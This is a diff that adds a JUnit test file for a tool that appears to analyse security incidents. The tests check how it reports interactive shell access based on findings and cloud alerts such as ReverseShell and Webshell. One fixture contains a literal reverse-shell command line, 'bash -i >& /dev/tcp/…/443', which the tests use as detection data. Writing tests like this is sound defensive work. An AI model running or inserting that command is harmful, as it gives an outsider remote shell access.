@@ -1,0 +1,105 @@
+package org.ephemera.report;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import java.util.stream.Stream;
+import org.ephemera.analyze.Analysis;
+import org.ephemera.analyze.model.Fact;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.RuleBook;
+import org.ephemera.analyze.model.Severity;
+import org.junit.jupiter.api.Test;
+
+/** Hands that no audit record tells of. */
+class InteractiveAccessTest {
+    private static final Analysis SAMPLE = SampleAnalysis.plain();
+    private static final Finding SHELL = Finding.of(
+            RuleBook.standard().rule("CMD-003"),
+            "checkout",
+            "log: bash -i >& /dev/tcp/203.0.113.7/443",
+            SAMPLE.findings().getFirst().evidence().getFirst());
+
+    @Test
+    void aShellThatCallsOutIsNoGoodNews() {
+        assertThat(InteractiveAccess.of(ChangedAnalysis.findings(SAMPLE, List.of(SHELL))))
+                .satisfies(tile -> {
+                    assertThat(tile.answer()).isEqualTo("By a shell, it seems");
+                    assertThat(tile.detail()).startsWith("no audit record tells of it: CMD-003 checkout: log: bash -i");
+                    assertThat(tile.tone()).isEqualTo(Tone.BAD);
+                });
+    }
+
+    @Test
+    void anAlertOfAShellIsNoGoodNewsEither() {
+        assertThat(InteractiveAccess.of(alerted("Execution:Runtime/ReverseShell")))
+                .extracting(AnswerTile::answer, AnswerTile::detail, AnswerTile::tone)
+                .containsExactly(
+                        "By a shell, it seems",
+                        "no audit record tells of it: the alert says so: Execution:Runtime/ReverseShell",
+                        Tone.BAD);
+        assertThat(InteractiveAccess.of(alerted("K8S.NODE_Webshell")).tone()).isEqualTo(Tone.BAD);
+        assertThat(InteractiveAccess.of(alerted("Impact:Runtime/CryptoMinerExecuted"))
+                        .answer())
+                .startsWith("No sign");
+        assertThat(InteractiveAccess.of(alerted("Impact:Runtime/CryptoMinerExecuted"))
+                        .detail())
+                .as("of what no record can be there yet, in any cloud")
+                .endsWith("; calls of the last 20 minutes or so reach them late");
+    }
+
+    /** Where the audit log of the cluster is not sent anywhere, the alert is all there is. */
+    @Test
+    void anAlertOfACommandInAPodIsOneToo() {
+        assertThat(InteractiveAccess.of(alerted("Execution:Kubernetes/AnomalousBehavior.ExecInPod")))
+                .extracting(AnswerTile::answer, AnswerTile::detail, AnswerTile::tone)
+                .containsExactly(
+                        "Yes, the alert says",
+                        "no audit record in the package tells of it: Execution:Kubernetes/AnomalousBehavior.ExecInPod",
+                        Tone.BAD);
+        assertThat(InteractiveAccess.of(alerted("Terminal shell in container")).answer())
+                .isEqualTo("Yes, the alert says");
+        assertThat(InteractiveAccess.of(alerted("Redirect STDOUT/STDIN to Network Connection in Container"))
+                        .answer())
+                .isEqualTo("By a shell, it seems");
+        assertThat(InteractiveAccess.of(alerted("Execution:Kubernetes/ExecInKubeSystemPod"))
+                        .tone())
+                .isEqualTo(Tone.BAD);
+    }
+
+    /** An attack sequence has a type that says little, and is made of findings that say more. */
+    @Test
+    void whatASequenceIsMadeOfCounts() {
+        assertThat(InteractiveAccess.of(
+                                alerted("AttackSequence:ECS/CompromisedCluster", "Execution:Runtime/ReverseShell"))
+                        .detail())
+                .isEqualTo("no audit record tells of it: the alert says so: Execution:Runtime/ReverseShell");
+        assertThat(InteractiveAccess.of(alerted(
+                                "AttackSequence:EKS/CompromisedCluster",
+                                "Execution:Kubernetes/AnomalousBehavior.ExecInPod"))
+                        .answer())
+                .isEqualTo("Yes, the alert says");
+        assertThat(InteractiveAccess.of(alerted("AttackSequence:ECS/CompromisedCluster"))
+                        .answer())
+                .startsWith("No sign");
+    }
+
+    private static Analysis alerted(String... types) {
+        return ChangedAnalysis.alerts(
+                ChangedAnalysis.findings(SAMPLE, List.of()),
+                Stream.of(types)
+                        .map(type -> new Fact<>(
+                                type, SAMPLE.findings().getFirst().evidence().getFirst()))
+                        .toList());
+    }
+
+    /** A request to a server, a wait for a port, an agent that does it by design. */
+    @Test
+    void whatOnlyLooksLikeOneIsNone() {
+        assertThat(List.of(SHELL.as(Severity.MEDIUM), SHELL.as(Severity.LOW), SHELL.suppressed("an agent")))
+                .allSatisfy(finding -> assertThat(
+                                InteractiveAccess.of(ChangedAnalysis.findings(SAMPLE, List.of(finding)))
+                                        .answer())
+                        .startsWith("No sign"));
+    }
+}
